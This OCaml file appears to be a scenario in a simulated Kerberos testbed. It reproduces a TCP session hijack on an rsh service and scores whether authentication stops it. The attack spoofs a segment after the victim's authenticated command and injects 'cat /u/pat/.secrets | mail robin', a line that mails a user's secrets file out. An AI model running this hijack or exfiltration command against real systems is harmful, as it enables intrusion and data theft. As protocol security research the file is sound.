open Kerberos

type result = {
  victim_command : string;
  injected_command : string;
  executed_as_victim : bool;
}

let victim_command = "make world"
let injected_command = "cat /u/pat/.secrets | mail robin"

let rsh_port = 514

let run ?(seed = 0xE8AL) ~profile () =
  let bed = Testbed.make ~seed ~profile () in
  Sim.Adversary.start_tap bed.adv;
  let rsh_principal = Principal.service ~realm:"ATHENA" "rsh" ~host:"fs1" in
  let rsh_key = Crypto.Des.random_key bed.rng in
  Kdb.add_service bed.db rsh_principal ~key:rsh_key;
  let daemon =
    Services.Rsh.install bed.net bed.file_host ~profile ~principal:rsh_principal
      ~key:rsh_key ~port:rsh_port ()
  in
  Client.login bed.victim ~password:bed.victim_password (fun r ->
      ignore (Testbed.expect "login" r);
      Client.get_ticket bed.victim ~service:rsh_principal (fun r ->
          let creds = Testbed.expect "rsh ticket" r in
          Services.Rsh.run_command bed.victim creds
            ~dst:(Sim.Host.primary_ip bed.file_host) ~dport:rsh_port
            ~cmd:victim_command
            ~k:(fun r -> ignore (Testbed.expect "rsh run" r))));
  Testbed.run bed;
  (* Reconstruct the connection's sequence state from the captured
     segments, then speak the next one. *)
  let to_server =
    Sim.Adversary.capture_matching bed.adv (fun p -> p.Sim.Packet.dport = rsh_port)
  in
  let next_seq = ref None in
  let conn_src = ref None in
  List.iter
    (fun p ->
      match Sim.Tcpish.decode_segment p.Sim.Packet.payload with
      | Some seg when Bytes.length seg.Sim.Tcpish.body > 0 ->
          next_seq :=
            Some ((seg.Sim.Tcpish.seq + Bytes.length seg.Sim.Tcpish.body) land 0x7FFFFFFF);
          conn_src := Some (p.Sim.Packet.src, p.Sim.Packet.sport)
      | _ -> ())
    to_server;
  (match (!next_seq, !conn_src) with
  | Some seq, Some (src, sport) ->
      let seg =
        { Sim.Tcpish.syn = false; ack = false; fin = false; rst = false; seq;
          ackno = 0; body = Bytes.of_string injected_command }
      in
      Sim.Adversary.spoof bed.adv ~src ~sport ~dst:(Sim.Host.primary_ip bed.file_host)
        ~dport:rsh_port (Sim.Tcpish.encode_segment seg)
  | _ -> failwith "hijack: no established connection observed");
  Testbed.run bed;
  let executed =
    List.exists
      (fun (cmd, who) -> cmd = injected_command && who = "pat@ATHENA")
      (Services.Rsh.executed daemon)
  in
  { victim_command; injected_command; executed_as_victim = executed }

let outcome r =
  if r.executed_as_victim then
    Outcome.broken "injected %S executed as the victim after its authentication"
      r.injected_command
  else Outcome.defended "injected segment not accepted"
